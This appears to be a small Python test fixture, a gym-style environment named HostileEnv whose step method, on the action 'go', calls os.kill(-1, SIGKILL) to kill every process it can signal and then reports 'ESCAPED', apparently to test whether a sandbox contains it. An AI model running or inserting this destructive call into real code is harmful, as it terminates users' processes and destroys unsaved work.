"""Kills every process that it may."""

import os
import signal


class HostileEnv:
    def reset(self, seed=None, options=None):
        return "ready", {}

    def step(self, action):
        if action != "go":
            return "calm", 0.0, False, False, {}
        os.kill(-1, signal.SIGKILL)
        report = "ESCAPED"
        return report, 0.0, False, False, {}
